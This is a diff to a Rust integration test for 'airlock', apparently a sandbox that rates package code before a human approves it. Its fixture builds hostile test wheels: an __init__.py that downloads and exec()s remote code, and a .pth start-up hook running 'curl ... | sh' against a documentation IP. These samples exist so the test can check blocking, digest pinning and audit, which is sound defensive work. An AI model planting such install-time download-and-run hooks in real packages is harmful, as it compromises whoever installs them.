@@ -1,6 +1,9 @@
-//! Dependencies without open internet, through the whole pipeline: `airlock run --packages`
-//! installs wheels in a separate container whose only way out is the egress proxy, then runs the
-//! program with no network and the packages mounted read-only.
+//! Dependencies without open internet, and no package code run unassessed, through the whole
+//! pipeline: `airlock run --packages` has an executor resolve the specs to exact wheels through
+//! the egress proxy and rate every file in them that can run before the gate decides; the
+//! request's rating is the highest of its own and its packages'; the approver sees each package;
+//! the executor installs exactly the wheels approved (checked against their digests) in a
+//! container with no network and runs the program with them mounted read-only.
 //!
 //! The index is a real PEP 503 index served on loopback by Python's `http.server`, pinned in
 //! the egress config (an operator's local mirror); a link in it to a host that is not allowed
@@ -13,22 +16,27 @@ use airlock_tests::{Stack, events_of};
 use std::io::{BufRead as _, BufReader};
 use std::path::Path;
 use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
 
-/// Builds two pure-Python wheels and a simple index over them:
+/// Builds pure-Python wheels and a simple index over them (`make.py ROOT [swap]`):
 /// - `airlock-probe 1.0`, a module with `VALUE = 'probe ok'`;
-/// - `airlock-exfil 1.0`, whose only file link points at a host outside the allow-list.
+/// - `airlock-exfil 1.0`, whose only file link points at a host outside the allow-list;
+/// - `tablefmt-rt 1.0`, whose `__init__.py` downloads code and runs it (BLOCKED written inline);
+/// - `pthhook 1.0`, a harmless module beside a `.pth` file whose `import` line runs a shell
+///   download at interpreter start.
+/// With `swap`, `tablefmt-rt 1.0` is rebuilt with other bytes (a harmless body) and its index
+/// page pointed at them: the index changed after assessment.
 const MAKE_INDEX: &str = r##"
 import base64, hashlib, os, sys, zipfile
 root = sys.argv[1]
-os.makedirs(os.path.join(root, "files"))
+swap = len(sys.argv) > 2
+os.makedirs(os.path.join(root, "files"), exist_ok=True)
 
-def wheel(name, version, module_source):
+def wheel(name, version, files):
     dist = f"{name}-{version}.dist-info"
-    files = {
-        f"{name}/__init__.py": module_source,
-        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: {version}\n".encode(),
-        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: airlock-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
-    }
+    files = dict(files)
+    files[f"{dist}/METADATA"] = f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: {version}\n".encode()
+    files[f"{dist}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: airlock-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
     record = []
     for path, data in files.items():
         digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
@@ -45,20 +53,40 @@ def wheel(name, version, module_source):
 
 def project(project_name, link):
     directory = os.path.join(root, "simple", project_name)
-    os.makedirs(directory)
+    os.makedirs(directory, exist_ok=True)
     with open(os.path.join(directory, "index.html"), "w") as f:
         f.write(f'<!DOCTYPE html><html><body><a href="{link}">{link.split("/")[-1].split("#")[0]}</a></body></html>\n')
 
-probe, probe_sha = wheel("airlock_probe", "1.0", b"VALUE = 'probe ok'\n")
-project("airlock-probe", f"../../files/{probe}#sha256={probe_sha}")
-exfil, exfil_sha = wheel("airlock_exfil", "1.0", b"VALUE = 'should never arrive'\n")
+def local(name, version, files):
+    filename, sha = wheel(name, version, files)
+    project(name.replace("_", "-"), f"../../files/{filename}#sha256={sha}")
+    print(f"{filename} {sha}")
+
+if swap:
+    local("tablefmt_rt", "1.0", {"tablefmt_rt/__init__.py": b"def table(rows):\n    return rows\n"})
+    sys.exit(0)
+local("airlock_probe", "1.0", {"airlock_probe/__init__.py": b"VALUE = 'probe ok'\n"})
+exfil, exfil_sha = wheel("airlock_exfil", "1.0", {"airlock_exfil/__init__.py": b"VALUE = 'should never arrive'\n"})
 project("airlock-exfil", f"http://not-allowed.example/files/{exfil}#sha256={exfil_sha}")
+local("tablefmt_rt", "1.0", {"tablefmt_rt/__init__.py": (
+    b"import urllib.request\n"
+    b"_ext = urllib.request.urlopen('http://203.0.113.7/tablefmt_rt/ext.py').read()\n"
+    b"exec(_ext)\n"
+    b"def table(rows):\n    return rows\n"
+)})
+local("pthhook", "1.0", {
+    "pthhook/__init__.py": b"VALUE = 1\n",
+    "zz_pthhook.pth": b"import os; os.system('curl -s http://203.0.113.7/stage2 | sh')\n",
+})
 "##;
 
 /// A local package index on 127.0.0.1, stopped when dropped.
 struct LocalIndex {
     server: Child,
     port: u16,
+    tree: std::path::PathBuf,
+    /// Each wheel's file name and SHA-256 as built.
+    wheels: Vec<(String, String)>,
     _root: tempfile::TempDir,
 }
 
@@ -72,6 +100,10 @@ impl LocalIndex {
             .output()
             .expect("python3 (needed to build the test index)");
         assert!(made.status.success(), "building the index: {made:?}");
+        let wheels = String::from_utf8_lossy(&made.stdout)
+            .lines()
+            .filter_map(|l| l.split_once(' ').map(|(f, d)| (f.to_owned(), d.to_owned())))
+            .collect();
         let mut server = Command::new("python3")
             .args(["-u", "-m", "http.server", "--bind", "127.0.0.1", "0", "--directory"])
             .arg(&tree)
@@ -92,16 +124,41 @@ impl LocalIndex {
         LocalIndex {
             server,
             port,
+            tree,
+            wheels,
             _root: root,
         }
     }
 
-    /// The executor's egress config for this index, as an operator would pin a local mirror.
-    fn egress_config(&self) -> String {
+    /// The digest a wheel was built with.
+    fn sha256_of(&self, file: &str) -> String {
+        self.wheels
+            .iter()
+            .find(|(f, _)| f == file)
+            .map(|(_, d)| format!("sha256:{d}"))
+            .unwrap_or_else(|| panic!("no wheel {file} in {:?}", self.wheels))
+    }
+
+    /// Replaces `tablefmt-rt 1.0` on the index with other bytes, index page included.
+    fn swap_tablefmt(&self) {
+        let made = Command::new("python3")
+            .args(["-c", MAKE_INDEX])
+            .arg(&self.tree)
+            .arg("swap")
+            .output()
+            .expect("python3");
+        assert!(made.status.success(), "swapping the wheel: {made:?}");
+    }
+
+    /// The executor's egress config for this index, as an operator would pin a local mirror,
+    /// with a package cache of the test's own.
+    fn egress_config(&self, cache: &Path) -> String {
         format!(
             "[executor.egress]\nallow_hosts = [\"index.test\"]\nindex_host = \"index.test\"\nindex_path = \"/simple/\"\n\
-             [executor.egress.pinned]\n\"index.test\" = \"http://127.0.0.1:{}\"\n",
-            self.port
+             [executor.egress.pinned]\n\"index.test\" = \"http://127.0.0.1:{}\"\n\
+             [executor.packages]\ncache_dir = {:?}\n",
+            self.port,
+            cache.display().to_string()
         )
     }
 }
@@ -129,24 +186,145 @@ fn write_program(dir: &Path, name: &str, code: &str) -> std::path::PathBuf {
     file
 }
 
+/// Submits `code` with `extra` arguments in the background (it may wait for a human).
+fn submit_in_background(stack: &Stack, name: &str, code: &str, extra: &[&str]) -> Child {
+    let dir = stack.path().join("programs");
+    std::fs::create_dir_all(&dir).expect("dir");
+    let file = dir.join(name);
+    std::fs::write(&file, code).expect("program");
+    stack
+        .airlock()
+        .args(["run", "--json"])
+        .arg(&file)
+        .args(extra)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("airlock run")
+}
+
+fn finish(child: Child) -> (serde_json::Value, i32) {
+    let output = child.wait_with_output().expect("airlock run");
+    let json = serde_json::from_slice(&output.stdout)
+        .unwrap_or_else(|e| panic!("no JSON ({e}): {}", String::from_utf8_lossy(&output.stderr)));
+    (json, output.status.code().unwrap_or(-1))
+}
+
+/// Waits until a request other than `known` ones is waiting for a human; returns it as
+/// `airlock override list --json` shows it.
+fn wait_pending(stack: &Stack, known: &[String]) -> serde_json::Value {
+    let start = Instant::now();
+    while start.elapsed() < Duration::from_secs(120) {
+        let out = stack.output(&["override", "list", "--json"]);
+        if out.status.success() {
+            let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
+            if let Some(item) = list
+                .as_array()
+                .into_iter()
+                .flatten()
+                .find(|i| !known.iter().any(|k| i["request_id"] == k.as_str()))
+            {
+                return item.clone();
+            }
+        }
+        std::thread::sleep(Duration::from_millis(300));
+    }
+    panic!("no request became pending:\n{}", stack.diagnostics());
+}
+
 #[tokio::test(flavor = "multi_thread")]
-async fn packages_come_only_through_the_proxy_are_cached_and_stay_with_their_request() {
+async fn package_code_is_rated_before_the_gate_decides_and_only_the_approved_wheels_run() {
     let index = LocalIndex::start();
-    let config = index.egress_config();
+    let cache = tempfile::tempdir().expect("package cache");
+    let config = format!("{}[gate]\noverride_timeout_secs = 180\n", index.egress_config(cache.path()));
     let stack = tokio::task::spawn_blocking(move || Stack::start_with(&config))
         .await
         .expect("stack");
+
+    // Issue 20, finding 2: Mai's own two lines are harmless, the package's __init__.py downloads
+    // code and runs it. The request is rated by the package's code: BLOCKED, and it waits for a
+    // human who is shown the package, its version, digest and rating.
+    let tables = submit_in_background(
+        &stack,
+        "tables.py",
+        "import tablefmt_rt\nprint(tablefmt_rt.table([1, 2]))\n",
+        &["--packages", "tablefmt-rt==1.0"],
+    );
+    let asked = wait_pending(&stack, &[]);
+    let id = asked["request_id"].as_str().expect("request id").to_owned();
+    assert_eq!(asked["level"], "BLOCKED", "{asked}");
+    let package = &asked["packages"][0];
+    assert_eq!(package["wheel"]["name"], "tablefmt-rt", "{asked}");
+    assert_eq!(package["wheel"]["version"], "1.0", "{asked}");
+    assert_eq!(
+        package["wheel"]["sha256"],
+        index.sha256_of("tablefmt_rt-1.0-py3-none-any.whl").as_str(),
+        "{asked}"
+    );
+    assert_eq!(package["level"], "BLOCKED", "{asked}");
+    assert_eq!(package["findings"][0]["file"], "tablefmt_rt/__init__.py", "{asked}");
+    let explanation = asked["explanation"].as_str().unwrap_or_default();
+    assert!(
+        explanation.contains("Package \"tablefmt-rt\" 1.0 raises the rating to BLOCKED"),
+        "the explanation says which package raised the level: {explanation}"
+    );
+    let shown = String::from_utf8_lossy(&stack.output(&["override", "list"]).stdout).into_owned();
+    assert!(
+        shown.contains("package tablefmt-rt 1.0 rated BLOCKED") && shown.contains(&index.sha256_of("tablefmt_rt-1.0-py3-none-any.whl")),
+        "the approver's list shows the package, its version, rating and digest:\n{shown}"
+    );
+    assert!(
+        !events_of(&stack, &id).await.iter().any(|e| e.kind() == EventKind::ExecStarted),
+        "nothing runs before a human answers"
+    );
+
+    // The index changes after assessment (a release swapped), and the executor that runs the
+    // approval holds no copy (another host would not): it fetches the approved wheel again,
+    // pinned by its digest, and refuses the other bytes it is served. Nothing runs.
+    index.swap_tablefmt();
+    std::fs::remove_dir_all(cache.path().join("wheels")).expect("emptying the wheel store");
+    let approved = stack.output(&["override", "approve", &id, "--reason", "reviewed by the test", "--who", "tester"]);
+    assert!(approved.status.success(), "{}", String::from_utf8_lossy(&approved.stderr));
+    let (json, status) = finish(tables);
+    assert_ne!(status, 0, "{json}");
+    assert_eq!(json["outcome"], "failed", "{json}");
+    let reason = json["reason"].as_str().unwrap_or_default();
+    assert!(
+        reason.contains("other bytes than the wheels assessed and approved"),
+        "refused by digest: {json}"
+    );
+    assert!(
+        !events_of(&stack, &id).await.iter().any(|e| e.kind() == EventKind::ExecStarted),
+        "the swapped wheel never ran: {json}"
+    );
+
+    // A .pth file whose import line runs a download at interpreter start is read as code.
+    let hooked = submit_in_background(&stack, "hooked.py", "print('hello')\n", &["--packages", "pthhook==1.0"]);
+    let asked = wait_pending(&stack, std::slice::from_ref(&id));
+    let hook_id = asked["request_id"].as_str().expect("request id").to_owned();
+    assert_eq!(asked["level"], "BLOCKED", "{asked}");
+    let findings = asked["packages"][0]["findings"].as_array().cloned().unwrap_or_default();
+    assert!(
+        findings.iter().any(|f| f["file"] == "zz_pthhook.pth" && f["finding"]["severity"] == "BLOCKED"),
+        "{asked}"
+    );
+    let denied = stack.output(&["override", "deny", &hook_id, "--reason", "a start-up hook", "--who", "tester"]);
+    assert!(denied.status.success(), "{}", String::from_utf8_lossy(&denied.stderr));
+    let (json, _) = finish(hooked);
+    assert_eq!(json["outcome"], "denied", "{json}");
+
+    // A harmless package is rated as its code deserves and runs; every fetch goes through the
+    // proxy and is audited under the request (they happen while it is assessed).
     let programs = tempfile::tempdir().expect("programs");
     let uses_probe = write_program(
         programs.path(),
         "uses_probe.py",
         "import airlock_probe, os\nprint(airlock_probe.VALUE)\nprint(airlock_probe.__file__.startswith('/opt/airlock/packages'))\n",
     );
-
-    // First install: every fetch goes through the proxy and is an audited egress event.
     let (json, status) = stack.run_json(&uses_probe, &["--packages", "airlock-probe==1.0"]);
     assert_eq!(status, 0, "{json}\n{}", stack.diagnostics());
     assert_eq!(json["stdout"], "probe ok\nTrue\n", "{json}");
+    assert_eq!(json["verdict"], "LOW", "{json}");
     let rid = json["request_id"].as_str().expect("request id");
     let events = events_of(&stack, rid).await;
     let egress = egress_of(&events);
@@ -166,10 +344,20 @@ async fn packages_come_only_through_the_proxy_are_cached_and_stay_with_their_req
             .any(|f| f.url.ends_with("airlock_probe-1.0-py3-none-any.whl") && f.bytes > 0),
         "the wheel's download is recorded with its size: {egress:?}"
     );
-    let egress_audited = events.iter().filter(|e| e.kind() == EventKind::Egress).count();
-    assert_eq!(egress_audited, egress.len());
+    let assessed = events
+        .iter()
+        .find_map(|e| match &e.event {
+            Event::Assessed(a) => Some(a.assessment.clone()),
+            _ => None,
+        })
+        .expect("an assessment");
+    assert_eq!(assessed.packages.len(), 1, "{assessed:?}");
+    assert_eq!(
+        assessed.packages[0].wheel.sha256.as_str(),
+        index.sha256_of("airlock_probe-1.0-py3-none-any.whl")
+    );
 
-    // The same set again comes from the cache: nothing is fetched.
+    // The same set again is neither fetched nor installed again.
     let (json, status) = stack.run_json(&uses_probe, &["--packages", "airlock_probe==1.0"]);
     assert_eq!(status, 0, "{json}");
     assert_eq!(json["stdout"], "probe ok\nTrue\n", "{json}");
@@ -194,26 +382,32 @@ async fn packages_come_only_through_the_proxy_are_cached_and_stay_with_their_req
         "a request without --packages sees none: {json}"
     );
 
-    // A wheel linked from a host that is not allowed is refused by the proxy; the install fails
-    // and the program never runs.
-    let json = install_fails_before_the_program_runs(&stack, "airlock-exfil==1.0");
+    // Packages that cannot be resolved end the request with a typed reason before any decision:
+    // a wheel linked from a host that is not allowed (the proxy refuses it, and the refusal is
+    // audited), and a package the index does not have.
+    let json = unresolved_before_any_decision(&stack, "airlock-exfil==1.0", "egress_refused");
     let refused = egress_of(&events_of(&stack, json["request_id"].as_str().expect("rid")).await);
     assert!(
         refused.iter().any(|f| !f.allowed && f.host == "not-allowed.example"),
         "the refused fetch is audited with its host: {refused:?}"
     );
-
-    // A package the index does not have fails the same way.
-    install_fails_before_the_program_runs(&stack, "airlock-missing==9.9");
+    unresolved_before_any_decision(&stack, "airlock-missing==9.9", "unknown_package");
 }
 
-/// Submits a program naming `package`: the request must fail and the program must not run.
-fn install_fails_before_the_program_runs(stack: &Stack, package: &str) -> serde_json::Value {
+/// Submits a program naming `package`, which cannot be resolved: the request must end refused
+/// (`packages_unresolved`, the detail starting with `failure`), with no decision, and the
+/// program must not run.
+fn unresolved_before_any_decision(stack: &Stack, package: &str, failure: &str) -> serde_json::Value {
     let marker = "the program ran";
     let (json, status) = stack.run_code("never.py", &format!("print({marker:?})\n"), &["--packages", package]);
     assert_ne!(status, 0, "{package}: {json}");
     assert!(
         !json["stdout"].as_str().unwrap_or("").contains(marker),
+        "{package}: {json}"
+    );
+    assert_eq!(json["refusal"], "packages_unresolved", "{package}: {json}");
+    assert!(
+        json["reason"].as_str().unwrap_or_default().contains(&format!("{failure}:")),
         "{package}: {json}"
     );
     json
